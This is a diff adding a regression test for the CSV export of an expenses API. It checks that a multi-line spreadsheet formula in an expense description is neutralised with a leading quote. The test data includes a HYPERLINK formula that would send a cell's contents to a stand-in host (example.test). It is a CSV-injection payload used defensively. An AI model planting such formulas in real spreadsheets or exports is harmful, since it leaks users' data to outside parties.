@@ -140,6 +140,9 @@ describe('expenses', () => {
       await lee.client.post(`/api/properties/${propertyId}/expenses`, body({ plotId: creek.id, description: tricky, amount: '89.99', splitAmong: [sam.user.id, lee.user.id] })),
       await lee.client.post(`/api/properties/${propertyId}/expenses`, body({ plotId: ridge.id, category: 'labour', description: '=HYPERLINK("x")', amount: '0', labourHours: 3.5, season: 'spring', spentOn: '2027-04-10' })),
     ];
+    // A formula whose first line ends in a newline: papaparse's single-line escape pattern let it through.
+    const multiLine = '=HYPERLINK("http://example.test/?d="&A2,"receipt")\nfuel for the mower';
+    made.push(await lee.client.post(`/api/properties/${propertyId}/expenses`, body({ category: 'fuel', description: multiLine, amount: '1.00' })));
     for (const m of made) expect(m.status, m.text).toBe(201);
     const res = await lee.client.get(`/api/properties/${propertyId}/expenses/export`);
     expect(res.status).toBe(200);
@@ -159,6 +162,7 @@ describe('expenses', () => {
     // OWASP CSV injection: the formula-looking description comes back prefixed with a quote, so it is text.
     const labour = parsed.data.find((r) => r.Category === 'Labour')!;
     expect(labour).toMatchObject({ Description: `'=HYPERLINK("x")`, 'Amount (USD)': '0.00', 'Labour hours': '3.5', Plot: 'Ridge', 'Split among': 'Everyone who shares costs' });
+    expect(parsed.data.find((r) => r.Description.includes('fuel for the mower'))?.Description).toBe(`'${multiLine}`);
     // Every row of the database is in the file, each amount to the cent.
     const rows = await db.selectFrom('expenses').select(['amount_cents']).where('property_id', '=', propertyId).execute();
     expect(parsed.data).toHaveLength(rows.length);
